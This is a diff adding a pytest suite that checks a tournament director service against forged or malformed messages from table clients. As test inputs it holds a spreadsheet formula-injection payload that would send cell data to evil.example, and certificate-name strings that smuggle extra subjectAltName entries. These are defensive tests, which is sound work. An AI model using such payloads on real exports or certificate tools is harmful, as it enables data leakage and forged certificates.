@@ -1,0 +1,373 @@
+"""No table can forge or break the tournament (issue 46, items 1-9): a table's account, the real
+director and its real Mosquitto on a free loopback port, and the director's pages served for real.
+
+Each test stages what a hostile or broken table can send and checks what the director stores,
+refuses, holds and shows."""
+
+import csv
+import io
+import re
+import shutil
+import sqlite3
+
+import httpx
+import pytest
+
+from companion.tournament import broker as brk
+from companion.tournament import protocol
+from companion.tournament.director import Director
+from companion.tournament.pairing import Pairing
+from companion.tournament.rounds import make_round
+from companion.tournament.web import WebServer
+from tests.test_tournament_network import EVENT, PREFIX, HallFixture, raw_client, wait_until
+
+pytestmark = pytest.mark.skipif(
+    shutil.which("mosquitto") is None and not brk.os.path.exists("/usr/sbin/mosquitto"),
+    reason="Mosquitto is not installed (make deps installs it)",
+)
+
+
+@pytest.fixture
+def hall(tmp_path):
+    h = HallFixture(tmp_path)
+    yield h
+    h.close()
+
+
+def account(hall, number):
+    """A table account with no link running (the test speaks for the table)."""
+    creds = hall.accounts.add_tables([number], EVENT)[number]
+    hall.broker.reload()
+    from companion.tournament.mqtt import check_login
+
+    check_login(hall.url, creds["username"], creds["password"])
+    return creds
+
+
+def publish_all(client, messages):
+    for topic, payload in messages:
+        client.publish(topic, payload, qos=1).wait_for_publish(5)
+
+
+def restart_director(hall):
+    hall.director = Director(
+        hall.store, EVENT, hall.url, hall.creds["username"], hall.creds["password"]
+    )
+    hall.director.start()
+
+
+# -- 2: one poison message loses nothing else --------------------------------------------------
+
+
+def test_a_number_sqlite_cannot_hold_is_refused_alone_and_the_rest_of_the_batch_is_stored(hall):
+    """2^63 as a seq or a round, and 1e999 anywhere, used to pass the checks and fail in the
+    store, rolling back the whole batch (up to 500 messages of every table). The director is
+    stopped while they are sent, so its persistent session hands them over in one burst."""
+    bad_creds, good_creds = account(hall, 3), account(hall, 4)
+    hall.director.stop()
+    events3, result3 = protocol.topic(PREFIX, 3, "events"), protocol.topic(PREFIX, 3, "result")
+    poison = [
+        (events3, b'{"game":"g3","seq":9223372036854775808,"record":{"kind":"press"}}'),
+        (result3, b'{"game":"g3","round":9223372036854775808,"record":{"loser":"red"}}'),
+        (events3, b'{"game":"g3","seq":2,"record":{"kind":"press","t":1e999}}'),
+        (protocol.topic(PREFIX, 3, "state"), b'{"status":"ready","minutes":{"blue":1e999}}'),
+    ]
+    good = [
+        (
+            protocol.topic(PREFIX, 4, "events"),
+            protocol.encode({"game": "g4", "seq": n, "record": {"kind": "press", "n": n}}),
+        )
+        for n in range(1, 41)
+    ] + [(protocol.topic(PREFIX, 4, "state"), protocol.encode({"status": "running", "t": 3}))]
+    bad = raw_client(hall.port, bad_creds["username"], bad_creds["password"], "table3")
+    ok = raw_client(hall.port, good_creds["username"], good_creds["password"], "table4")
+    try:
+        publish_all(ok, good[:20])
+        publish_all(bad, poison)
+        publish_all(ok, good[20:])
+    finally:
+        for c in (bad, ok):
+            c.disconnect()
+            c.loop_stop()
+    restart_director(hall)
+    wait_until(lambda: len(hall.store.events(4, "g4")) == 40, what="table 4's 40 events")
+    assert hall.director.drain()
+    assert [e["n"] for e in hall.store.events(4, "g4")] == list(range(1, 41))
+    assert hall.store.table(4)["state"] == {"status": "running", "t": 3}
+    refused = hall.store.rejected()
+    assert len(refused) == len(poison)
+    reasons = " | ".join(r["reason"] for r in refused)
+    assert "9223372036854775808 is out of range" in reasons
+    assert "'1e999' is too large" in reasons
+    assert hall.store.events(3, "g3") == [] and hall.store.results() == []
+
+
+# -- 3: text made valid on the way in; no stored row breaks a page or a command ------------------
+
+
+def pages_and_commands_answer(store, root, monkeypatch, capsys):
+    """Every page answers 200 and every command prints text a UTF-8 terminal takes; returns
+    what the commands printed."""
+    from companion.cli import main
+    from companion.tournament import director as director_module
+
+    with (
+        WebServer(store, director_password="hall-7") as web,
+        httpx.Client(base_url=web.url, timeout=10) as c,
+    ):
+        for path in ("/", "/table/3", "/standings", "/tv", "/tv/panels", "/results.csv"):
+            r = c.get(path)
+            assert r.status_code == 200, (path, r.status_code, r.text[-300:])
+            r.content.decode("utf-8")  # strict: every byte sent is UTF-8
+    monkeypatch.setattr(director_module, "director_dir", lambda: root)
+    out = ""
+    for command in (["results"], ["results", "--csv"], ["results", "--json"], ["standings"]):
+        assert main(["director", *command, "--event", EVENT]) == 0
+        out += capsys.readouterr().out
+    out.encode("utf-8")  # what a UTF-8 terminal or file takes
+    return out
+
+
+def test_a_lone_surrogate_is_made_valid_where_it_comes_in(hall, monkeypatch, capsys):
+    creds = account(hall, 3)
+    c = raw_client(hall.port, creds["username"], creds["password"], "table3")
+    state = b'{"status":"running","players":{"blue":"Ad\\ud800a","red":"Bob"},"t":1}'
+    record = (
+        b'{"game":"g3","record":{"players":{"blue":"Ad\\ud800a","red":"B\\udfffob"},'
+        b'"loser":"red","minutes":{"blue":3,"red":0}}}'
+    )
+    board = b'{"game":"g3","board":"11/11/11/11/11/4P\\ud800T4/11/11/11/11/11","trusted":false}'
+    try:
+        publish_all(
+            c,
+            [
+                (protocol.topic(PREFIX, 3, "state"), state),
+                (protocol.topic(PREFIX, 3, "result"), record),
+                (protocol.topic(PREFIX, 3, "board"), board),
+            ],
+        )
+    finally:
+        c.disconnect()
+        c.loop_stop()
+    wait_until(lambda: hall.store.results() and hall.store.table(3)["board"], what="all three")
+    assert hall.director.drain()
+    table = hall.store.table(3)
+    assert table["state"]["players"]["blue"] == "Ad\ufffda"
+    assert hall.store.results()[0]["players"] == {"blue": "Ad\ufffda", "red": "B\ufffdob"}
+    assert "\ufffd" in table["board"]["board"]
+    out = pages_and_commands_answer(hall.store, hall.accounts.directory, monkeypatch, capsys)
+    assert "Ad\ufffda" in out
+
+
+def test_no_stored_row_makes_a_page_or_a_command_fail(hall, monkeypatch, capsys):
+    """A store written before the director cleaned what comes in keeps its lone surrogates
+    (JSON text escapes them): they are made valid as they are read."""
+    path = hall.store.path
+    con = sqlite3.connect(path)
+    bad = '{"players":{"blue":"Ad\\ud800a","red":"Bob"},"loser":"red"}'
+    with con:
+        con.execute(
+            "INSERT INTO tables(table_no, state, last_seen) VALUES (3, ?, 1.0)",
+            ('{"status":"running","players":{"blue":"Ad\\ud800a","red":"Bob"}}',),
+        )
+        con.execute(
+            "INSERT INTO results(table_no, game, round, record, received) VALUES (3,'g3',NULL,?,1)",
+            (bad,),
+        )
+        con.execute(
+            "INSERT INTO events(table_no, game, seq, record, received) VALUES (3,'g3',1,?,1)",
+            ('{"kind":"words","words":["\\udc00"]}',),
+        )
+        con.execute("UPDATE tables SET game = 'g3' WHERE table_no = 3")
+    con.close()
+    out = pages_and_commands_answer(hall.store, hall.accounts.directory, monkeypatch, capsys)
+    assert "Ad\ufffda" in out
+
+
+# -- 6: no formula reaches a spreadsheet -------------------------------------------------------
+
+
+def test_player_names_go_out_as_text_never_as_spreadsheet_formulas(hall, monkeypatch, capsys):
+    from companion.cli import main
+    from companion.tournament import director as director_module
+
+    creds = account(hall, 3)
+    names = {"blue": '=HYPERLINK("http://evil.example/?"&A1,"prize")', "red": "@SUM(1+1)*cmd"}
+    c = raw_client(hall.port, creds["username"], creds["password"], "table3")
+    try:
+        record = {"players": names, "loser": "red", "how": "-2+3"}
+        publish_all(
+            c,
+            [
+                (
+                    protocol.topic(PREFIX, 3, "result"),
+                    protocol.encode({"game": "g3", "record": record}),
+                )
+            ],
+        )
+    finally:
+        c.disconnect()
+        c.loop_stop()
+    wait_until(lambda: hall.store.results(), what="the result")
+    with (
+        WebServer(hall.store, director_password="hall-7") as web,
+        httpx.Client(base_url=web.url, timeout=10) as http,
+    ):
+        page_csv = http.get("/results.csv").text
+    monkeypatch.setattr(director_module, "director_dir", lambda: hall.accounts.directory)
+    assert main(["director", "results", "--csv", "--event", EVENT]) == 0
+    cli_csv = capsys.readouterr().out
+    for text in (page_csv, cli_csv):
+        rows = list(csv.reader(io.StringIO(text)))
+        cells = [cell for row in rows[1:] for cell in row]
+        assert "'" + names["blue"] in cells and "'" + names["red"] in cells
+        formulas = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        assert formulas == []
+
+
+# -- 8: bad addresses and names ----------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "path", ["/table/9223372036854775808", "/table/0", "/table/1000", "/table/99999999999999999999"]
+)
+def test_a_table_number_out_of_range_is_404(hall, path):
+    with (
+        WebServer(hall.store, director_password="hall-7") as web,
+        httpx.Client(base_url=web.url, timeout=10) as http,
+    ):
+        assert http.get(path).status_code == 404
+        assert http.get(path + "/qr.png").status_code == 404
+        big = path.rsplit("/", 1)[1]
+        assert http.get(f"/events?table={big}").status_code == 400
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["evil.example,DNS:bank.example", "host\nsubjectAltName=DNS:x", "a b", "*.hall", "::1%a,b"],
+)
+def test_director_ca_refuses_a_name_that_is_no_host_name(tmp_path, monkeypatch, capsys, name):
+    from companion.cli import main
+    from companion.tournament import director as director_module
+
+    monkeypatch.setattr(director_module, "director_dir", lambda: tmp_path / "director")
+    assert main(["director", "ca", "--name", "10.42.0.1", "--name", name]) == 2
+    err = capsys.readouterr().err
+    assert repr(name) in err and "accepted an address" in err
+    assert not (tmp_path / "director" / "tls").exists()  # nothing written
+
+
+def test_director_ca_takes_host_names_and_addresses(tmp_path):
+    if shutil.which("openssl") is None:
+        pytest.skip("openssl is not installed")
+    files = brk.make_hall_ca(tmp_path / "tls", ["director.local", "10.42.0.1", "fd00::1", "hall-7"])
+    ext = (tmp_path / "tls" / "broker.ext").read_text().splitlines()
+    assert ext[0] == "subjectAltName=DNS:director.local,IP:10.42.0.1,IP:fd00::1,DNS:hall-7"
+    assert files.cert.exists()
+
+
+# -- 9: headers --------------------------------------------------------------------------------
+
+
+def test_every_answer_carries_the_security_headers(hall):
+    with (
+        WebServer(hall.store, director_password="hall-7") as web,
+        httpx.Client(base_url=web.url, timeout=10) as http,
+    ):
+        for path in ("/", "/standings", "/login", "/results.csv", "/static/app.css", "/table/5"):
+            r = http.get(path)
+            csp = dict(
+                (part.split() + [""])[:2]
+                for part in r.headers["content-security-policy"].split(";")
+            )
+            assert csp["default-src"] == "'self'" and csp["script-src"] == "'self'", path
+            assert csp["frame-ancestors"] == "'none'", path
+            if r.headers["content-type"].startswith("text/html"):
+                # the policy runs no inline script: every script of the pages is a file
+                assert re.findall(r"<script(?![^>]*\bsrc=)", r.text) == [], path
+            assert r.headers.get("x-content-type-options") == "nosniff", path
+            assert r.headers.get("referrer-policy") == "no-referrer", path
+            assert r.headers.get("x-frame-options") == "DENY", path
+
+
+# -- 1: a result counts only when it matches the set-up its table was given --------------------
+
+
+def post_results(hall, number, payloads):
+    creds = account(hall, number)
+    c = raw_client(hall.port, creds["username"], creds["password"], f"table{number}")
+    try:
+        publish_all(
+            c, [(protocol.topic(PREFIX, number, "result"), protocol.encode(p)) for p in payloads]
+        )
+    finally:
+        c.disconnect()
+        c.loop_stop()
+
+
+def forged(game, blue, red, loser="red", round_no=None, mode="iago"):
+    record = {"mode": mode, "players": {"blue": blue, "red": red}, "loser": loser}
+    record |= {"minutes": {"blue": 5, "red": 0}, "round": round_no}
+    return {"game": game, "round": round_no, "record": record}
+
+
+def test_a_result_for_a_game_never_set_up_is_held_and_counts_once_accepted(
+    hall, monkeypatch, capsys
+):
+    """No round published, a made-up player: two posts used to put "Mallory" first."""
+    from companion.cli import main
+    from companion.tournament import director as director_module
+
+    post_results(hall, 3, [forged("m1", "Mallory", "Ada"), forged("m2", "Mallory", "Bob")])
+    wait_until(lambda: len(hall.store.results()) == 2, what="both results stored")
+    assert hall.store.standings() == []
+    assert all(r["held"] == "no round: the table had no set-up" for r in hall.store.results())
+    with (
+        WebServer(hall.store, director_password="hall-7") as web,
+        httpx.Client(base_url=web.url, timeout=10) as http,
+    ):
+        page = http.get("/standings").text
+    held = page.split('<h2 id="held">Held: not in a set-up</h2>')[1].split('id="results"')[0]
+    assert held.count("held: not in a set-up (no round: the table had no set-up)") == 2
+    assert held.count('<td class="blue-text">Mallory</td>') == 2
+    assert 'class="standings"' not in page  # nobody ranks on a held result
+    monkeypatch.setattr(director_module, "director_dir", lambda: hall.accounts.directory)
+    argv = ["director", "correct", "3", "m1", "--accept", "--reason", "a friendly game"]
+    assert main([*argv, "--who", "Tess", "--event", EVENT]) == 0
+    capsys.readouterr()
+    standings = hall.store.standings()
+    assert [(s["player"], s["wins"]) for s in standings] == [("Mallory", 1), ("Ada", 0)]
+    assert main(["director", "results", "--event", EVENT]) == 0
+    out = capsys.readouterr().out
+    assert "HELD: not in a set-up (no round: the table had no set-up)" in out  # m2 still held
+
+
+def test_within_a_round_only_the_set_up_game_counts(hall):
+    """Round 1 set table 3 to Ada v Bob: the table's own result counts once; 200 more posts,
+    other players, another game, another table's result are all held."""
+    setups = make_round(hall.store, 1, [Pairing("Ada", "Bob", 3), Pairing("Cy", "Di", 5)])
+    hall.director.publish_round(1, setups)
+    blue, red = setups[3]["blue"], setups[3]["red"]
+    posts = [forged("g1", red, blue, round_no=1)]  # colours swapped: drawn by lot at the table
+    posts += [forged(f"again{n}", blue, red, round_no=1) for n in range(200)]
+    posts += [
+        forged("mal", "Mallory", red, round_no=1),
+        forged("iota", blue, red, round_no=1, mode="iota"),
+        forged("r2", blue, red, round_no=2),
+    ]
+    post_results(hall, 3, posts)
+    post_results(hall, 4, [forged("t4", "Cy", "Di", round_no=1)])
+    wait_until(lambda: len(hall.store.results()) == len(posts) + 1, what="every post stored")
+    counted = [r for r in hall.store.results() if not r["held"]]
+    assert [(r["table"], r["game"]) for r in counted] == [(3, "g1")]
+    why = {r["game"]: r["held"] for r in hall.store.results()}
+    assert why["again7"] == "round 1's set-up at this table was played already (game g1)"
+    assert why["mal"].startswith("players Mallory v ")
+    assert why["iota"] == "game iota; round 1's set-up is iago"
+    assert why["r2"] == "round 2 has no set-up for this table"
+    assert why["t4"] == "round 1 has no set-up for this table"
+    standings = {s["player"]: (s["played"], s["wins"]) for s in hall.store.standings()}
+    assert standings == {red: (1, 1), blue: (1, 0)}
+    from companion.tournament.web import views
+
+    assert views.reported(1, setups, hall.store.results())["reported"] == 1
